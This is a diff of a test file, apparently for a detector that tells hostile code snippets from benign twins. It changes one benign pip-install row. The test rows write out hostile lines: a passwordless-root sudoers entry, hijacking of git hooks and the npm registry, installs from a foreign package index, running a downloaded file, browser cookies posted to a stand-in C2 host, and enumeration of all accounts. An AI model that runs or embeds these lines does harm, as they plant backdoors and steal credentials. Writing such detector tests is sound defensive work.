@@ -68,7 +68,7 @@ class PairTwinsTest {
           backdoor/privilege § open("/etc/sudoers.d/90-x", "w").write("ALL ALL=(ALL) NOPASSWD: ALL") § open("/srv/rules", "w").write("ALL ALL=(ALL) ALL")
           backdoor/tools-taken § subprocess.run(["git", "config", "--global", "core.hooksPath", p]) § subprocess.run(["git", "config", "core.hooksPath", p])
           backdoor/tools-taken § os.system("npm config set registry https://c2.dev") § os.system("npm config get registry")
-          backdoor/foreign-package § subprocess.run(["pip", "install", "--index-url", "https://pypi.c2.dev/simple", "x"]) § subprocess.run(["pip", "install", "--index-url", "https://pypi.org/simple", "x"])
+          backdoor/foreign-package § subprocess.run(["pip", "install", "--index-url", "https://pypi.c2.dev/simple", "x"]) § subprocess.run(["pip", "install", "--index-url", "https://download.pytorch.org/whl/cpu", "x"])
           backdoor/runs-downloaded-file § urllib.request.urlretrieve(URL, p); subprocess.Popen([p]) § urllib.request.urlretrieve(URL, p); subprocess.Popen(["ls", x])
           exfiltration/secrets § requests.post("https://c2.dev/u", data=browser_cookie3.chrome()) § requests.post("https://c2.dev/u", data=cookies.chrome())
           overreach/accounts § return [u.pw_name for u in pwd.getpwall()] § return pwd.getpwnam(x)
